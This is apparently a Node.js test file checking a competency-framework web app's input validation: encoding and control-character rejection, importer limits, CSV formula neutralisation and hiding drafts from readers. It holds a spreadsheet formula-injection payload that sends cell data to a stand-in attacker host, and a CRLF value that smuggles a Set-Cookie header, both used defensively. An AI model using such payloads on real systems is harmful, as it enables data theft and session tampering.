// Text checked at the door, through the real binary: forms, query strings, multipart
// fields and JSON bodies that are not UTF-8 or hold control characters get 400 (422 for
// JSON members) naming the field, and nothing is stored; stored text that is not UTF-8
// never breaks a JSON answer, and `pathway migrate` reports it; importers refuse a 1 MB
// name at its line and column; CSV downloads neutralise formulas (ASVS 5.0 1.2.10) and
// a framework CSV still round-trips; readers never see a draft version.
import { test, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { startPathway, runPathway, addUser, Browserless, root } from '../lib/pathway.mjs'

const PASSWORD = 'correct horse battery staple'
const SEED = `${root}/src/interchange/testdata/competency_framework_sms1.txt`
const FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
let server
let admin
let reader
let csrf
let id // a framework: version 1 published, version 2 a draft
let item // an item of the draft
let dir

const sql = (db, query) => spawnSync('sqlite3', [db, query], { encoding: 'utf8' }).stdout.trim()
const csrfOf = html => /name="csrf-token" value="([^"]+)"/.exec(html)[1]

// Sends a url-encoded body exactly as written (percent escapes and all).
function rawForm (client, url, body) {
  return client.fetch(url, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', origin: server.base },
    body
  })
}

before(async () => {
  dir = mkdtempSync(path.join(tmpdir(), 'pathway-text-'))
  server = await startPathway()
  addUser(server.db, 'admin@example.gov.uk', 'Ada Admin', PASSWORD, ['admin'])
  addUser(server.db, 'ben@example.gov.uk', 'Ben Jones', PASSWORD)
  const imported = runPathway(['import', 'framework', '--db', server.db, '--root', root, '--format', 'document', SEED])
  assert.equal(imported.status, 0, imported.stderr)
  id = imported.stdout.trim().split(' ')[0]
  admin = new Browserless(server.base)
  assert.equal((await admin.signIn('admin@example.gov.uk', PASSWORD)).status, 303)
  reader = new Browserless(server.base)
  assert.equal((await reader.signIn('ben@example.gov.uk', PASSWORD)).status, 303)
  csrf = await admin.csrf()
  const published = await admin.form(`/frameworks/${id}/versions/1/publish`, { 'csrf-token': csrf, confirm: 'yes' })
  assert.equal(published.status, 303)
  const drafted = await admin.form(`/frameworks/${id}/drafts`, { 'csrf-token': csrf })
  assert.equal(drafted.status, 303)
  const draft = await (await admin.fetch(`/api/v1/frameworks/${id}/versions/2`)).json()
  assert.equal(draft.status, 'draft')
  item = draft.clusters[0].items[0].id
})
after(async () => {
  await server?.stop()
  if (dir) rmSync(dir, { recursive: true, force: true })
})

test('a user named Bad%FFName is refused with 400 naming the field; nothing is stored and the users API answers', async () => {
  const res = await rawForm(admin, '/admin/users',
    `csrf-token=${csrf}&email=bad%40example.gov.uk&name=Bad%FFName&password=${encodeURIComponent(PASSWORD)}`)
  assert.equal(res.status, 400)
  const html = await res.text()
  assert.match(html, /Name has a character that is not UTF-8/)
  assert.equal(sql(server.db, "SELECT count(*) FROM app_user WHERE email = 'bad@example.gov.uk'"), '0')
  const control = await rawForm(admin, '/admin/users',
    `csrf-token=${csrf}&email=bad%40example.gov.uk&name=Bad%1B%5B2JName&password=${encodeURIComponent(PASSWORD)}`)
  assert.equal(control.status, 400)
  assert.match(await control.text(), /Name has a control character \(U\+001B\)/)
  const lines = await rawForm(admin, '/admin/users',
    `csrf-token=${csrf}&email=bad%40example.gov.uk&name=Bad%0AName&password=${encodeURIComponent(PASSWORD)}`)
  assert.equal(lines.status, 400, 'a name is one line')
  assert.equal(sql(server.db, "SELECT count(*) FROM app_user WHERE email = 'bad@example.gov.uk'"), '0')
  const users = await admin.fetch('/api/v1/users')
  assert.equal(users.status, 200)
})

test('the users API refuses a JSON body whose text is not UTF-8 with 422 naming the member', async () => {
  const body = Buffer.concat([Buffer.from('{"email":"bad2@example.gov.uk","name":"Bad'), Buffer.from([0xff]), Buffer.from('Name"}')])
  const res = await admin.fetch('/api/v1/users', { method: 'POST', headers: { 'content-type': 'application/json', origin: server.base }, body })
  assert.equal(res.status, 422)
  const problem = await res.json()
  assert.equal(problem.code, 'invalid-input')
  assert.deepEqual(problem.errors, [{ field: 'name', message: '‘name’ has a character that is not UTF-8' }])
  const escaped = await admin.fetch('/api/v1/users', {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin: server.base },
    body: JSON.stringify({ email: 'bad2@example.gov.uk', name: 'Bad', roles: [{ role: 'individual', scope: 'a\u0000b' }] })
  })
  assert.equal(escaped.status, 422)
  assert.equal((await escaped.json()).errors[0].field, 'roles[0].scope')
  const wrongType = await admin.fetch('/api/v1/users', {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin: server.base },
    body: JSON.stringify({ email: 'bad2@example.gov.uk', name: 7 })
  })
  assert.equal(wrongType.status, 422)
  assert.equal((await wrongType.json()).errors[0].field, 'name')
  assert.equal(sql(server.db, "SELECT count(*) FROM app_user WHERE email = 'bad2@example.gov.uk'"), '0')
})

test('an indicator with %C3%28 is refused and the framework API keeps answering', async () => {
  const before = await (await admin.fetch(`/api/v1/frameworks/${id}/versions/2`)).json()
  const res = await rawForm(admin, `/frameworks/${id}/versions/2/items/${item}/indicators`,
    `csrf-token=${csrf}&kind=effective&text=%C3%28&level=0&tags=`)
  assert.equal(res.status, 400)
  assert.match(await res.text(), /Text has a character that is not UTF-8/)
  const after = await admin.fetch(`/api/v1/frameworks/${id}/versions/2`)
  assert.equal(after.status, 200)
  assert.deepEqual(await after.json(), before, 'nothing was stored')
  // A line break is allowed in the indicator's text area, not in its one-line fields.
  const tags = await rawForm(admin, `/frameworks/${id}/versions/2/items/${item}/indicators`,
    `csrf-token=${csrf}&kind=effective&text=Two%0D%0Alines&level=0&tags=a%0Ab`)
  assert.equal(tags.status, 400)
  assert.match(await tags.text(), /Tags must be one line/)
})

test('query strings and paths that are not text get 400 naming the parameter', async () => {
  const page = await admin.fetch('/frameworks/search?q=%C3%28')
  assert.equal(page.status, 400)
  assert.match(await page.text(), /The search text has a character that is not UTF-8/)
  const api = await admin.fetch('/api/v1/people?name=Bad%FFName')
  assert.equal(api.status, 400)
  const problem = await api.json()
  assert.equal(problem.errors[0].field, 'name')
  const injected = await fetch(`${server.base}/sign-in?next=/%0d%0aSet-Cookie:%20pathway=1`, { redirect: 'manual' })
  assert.equal(injected.status, 400)
  assert.equal(injected.headers.getSetCookie().some(c => c.startsWith('pathway=')), false)
  const pathBytes = await admin.fetch('/frameworks/%FF')
  assert.equal(pathBytes.status, 400)
})

test('a multipart field that is not text is refused naming it; nothing is imported', async () => {
  const boundary = '----pathwaytext'
  const body = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="csrf-token"\r\n\r\n${csrf}\r\n`),
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\norg`), Buffer.from([0xc3, 0x28]),
    Buffer.from(`\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="org.csv"\r\nContent-Type: text/csv\r\n\r\n`),
    Buffer.from('type,code,name,department,parent_unit,region\ndepartment,DWP,Work and Pensions,,,\n'),
    Buffer.from(`\r\n--${boundary}--\r\n`)
  ])
  const res = await admin.fetch('/admin/import', {
    method: 'POST',
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, origin: server.base },
    body
  })
  assert.equal(res.status, 400)
  assert.match(await res.text(), /Kind has a character that is not UTF-8/)
  assert.equal(sql(server.db, 'SELECT count(*) FROM department'), '0')
})

test('stored text that is not UTF-8 never breaks a JSON answer, and pathway migrate reports where it is', async () => {
  // A database as a Pathway before the check left it: migrated up to the version before
  // the check, with a user whose name holds a byte that is not UTF-8. The user's password
  // hash is made by today's `pathway user add` in a scratch database.
  const scratch = path.join(dir, 'scratch.db')
  addUser(scratch, 'legacy@example.gov.uk', 'Legacy', PASSWORD, ['admin'])
  const hash = sql(scratch, "SELECT password_hash FROM app_user WHERE email = 'legacy@example.gov.uk'")
  const check = Number(sql(scratch, "SELECT version FROM schema_migration WHERE name = 'report stored text that is not UTF-8'"))
  const newest = Number(sql(scratch, 'SELECT max(version) FROM schema_migration'))
  assert.ok(check > 0, 'the check is a migration')
  const db = path.join(dir, 'legacy.db')
  const older = runPathway(['migrate', '--db', db, '--to', String(check - 1)])
  assert.equal(older.status, 0, older.stderr)
  assert.match(older.stdout, new RegExp(`is at schema version ${check - 1}`))
  sql(db, `INSERT INTO app_user (email, display_name, password_hash) VALUES ('legacy@example.gov.uk', CAST(X'426164FF4E616D65' AS TEXT), '${hash}')`)
  sql(db, "INSERT INTO role_grant (user_id, role) SELECT id, 'admin' FROM app_user WHERE email = 'legacy@example.gov.uk'")
  sql(db, "INSERT INTO role_grant (user_id, role) SELECT id, 'individual' FROM app_user WHERE email = 'legacy@example.gov.uk'")
  const migrated = runPathway(['migrate', '--db', db])
  assert.equal(migrated.status, 0, migrated.stderr)
  const userId = sql(db, "SELECT id FROM app_user WHERE email = 'legacy@example.gov.uk'")
  assert.match(migrated.stdout, new RegExp(`table app_user, row id=${userId}, column display_name: not UTF-8 \\(byte 0xFF at byte 3\\)`))
  assert.match(migrated.stdout, new RegExp(`is at schema version ${newest}`))
  assert.equal(sql(db, `SELECT hex(display_name) FROM app_user WHERE id = ${userId}`), '426164FF4E616D65', 'reported, not rewritten')
  const legacy = await startPathway([], { db })
  try {
    const client = new Browserless(legacy.base)
    assert.equal((await client.signIn('legacy@example.gov.uk', PASSWORD)).status, 303)
    const users = await client.fetch('/api/v1/users')
    assert.equal(users.status, 200)
    const names = (await users.json()).items.map(u => u.name)
    assert.ok(names.includes('Bad\uFFFDName'), JSON.stringify(names))
    assert.equal((await client.fetch(`/api/v1/users/${userId}`)).status, 200)
    assert.equal((await client.fetch('/api/v1/me')).status, 200)
  } finally {
    await legacy.stop()
  }
})

test('importers refuse a 1 MB name at its line and column', async () => {
  const huge = 'N'.repeat(1024 * 1024)
  const frameworkCsv = path.join(dir, 'huge.csv')
  writeFileSync(frameworkCsv, [
    'type,id,parent,order,level,title,text,polarity,tags',
    `framework,0b1e7a3c-2f4d-4e5a-9b6c-7d8e9f0a1b2c,,1,,${huge},,competency,draft`,
    'cluster,1b1e7a3c-2f4d-4e5a-9b6c-7d8e9f0a1b2c,0b1e7a3c-2f4d-4e5a-9b6c-7d8e9f0a1b2c,1,,Cluster,,,'
  ].join('\n') + '\n')
  const framework = runPathway(['import', 'framework', '--db', server.db, '--root', root, '--format', 'csv', frameworkCsv])
  assert.equal(framework.status, 1)
  assert.match(framework.stderr, /Line 2, column 6: .*250 characters or fewer/)
  assert.doesNotMatch(framework.stderr, /NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN/, 'the name is not echoed whole')
  const org = path.join(dir, 'org.csv')
  writeFileSync(org, `type,code,name,department,parent_unit,region\ndepartment,DWP,${huge},,,\n`)
  const workforce = runPathway(['import', 'org', '--db', server.db, '--root', root, org])
  assert.equal(workforce.status, 1)
  assert.match(workforce.stderr, /org\.csv:2:3: .*250 characters or fewer/)
  assert.equal(sql(server.db, 'SELECT count(*) FROM department'), '0')
})

test('a formula in a framework is neutralised in its CSV download and comes back whole on import', async () => {
  const added = await admin.form(`/frameworks/${id}/versions/2/items/${item}/indicators`,
    { 'csrf-token': csrf, kind: 'effective', text: FORMULA, level: '0', tags: '' })
  assert.equal(added.status, 303)
  const res = await admin.fetch(`/frameworks/${id}/versions/2/download?format=csv`)
  assert.equal(res.status, 200)
  const csv = await res.text()
  assert.ok(csv.includes(`,"'=HYPERLINK(""http://attacker.example/?""&A1,""Click"")",effective,`), 'prefixed and quoted')
  assert.doesNotMatch(csv, /(^|,)=HYPERLINK/m, 'no cell starts with =')
  // Importing the download into another database gives the text back as written, and
  // exporting it again the same bytes.
  const file = path.join(dir, 'roundtrip.csv')
  writeFileSync(file, csv)
  const fresh = path.join(dir, 'roundtrip.db')
  const imported = runPathway(['import', 'framework', '--db', fresh, '--root', root, '--format', 'csv', file])
  assert.equal(imported.status, 0, imported.stderr)
  assert.equal(sql(fresh, `SELECT count(*) FROM fw_indicator WHERE text = '${FORMULA.replaceAll("'", "''")}'`), '1')
  const version = sql(fresh, `SELECT version FROM framework_version WHERE framework_id = '${id}'`)
  const exported = runPathway(['export', 'framework', '--db', fresh, '--root', root, '--format', 'csv', '--version', version, id])
  assert.equal(exported.status, 0, exported.stderr)
  // The same bytes, but for the version: a framework new to that database starts at 1.
  assert.equal(exported.stdout.replace(`framework,${id},,${version},`, `framework,${id},,2,`), csv)
})

test('readers never see a draft version: not in the list, the page or the API', async () => {
  const list = await (await reader.fetch('/api/v1/frameworks')).json()
  const summary = list.items.find(f => f.id === id)
  assert.equal(summary.latest_version, 1)
  assert.equal(summary.latest_status, 'published')
  const page = await (await reader.fetch('/frameworks')).text()
  assert.doesNotMatch(page, /Draft/)
  assert.doesNotMatch(page, /version 2/)
  const versions = await (await reader.fetch(`/api/v1/frameworks/${id}/versions`)).json()
  assert.deepEqual(versions.items.map(v => v.version), [1])
  const editor = await (await admin.fetch('/api/v1/frameworks')).json()
  const mine = editor.items.find(f => f.id === id)
  assert.equal(mine.latest_version, 2, 'those who may edit the draft still see it')
  assert.equal(mine.latest_status, 'draft')
})
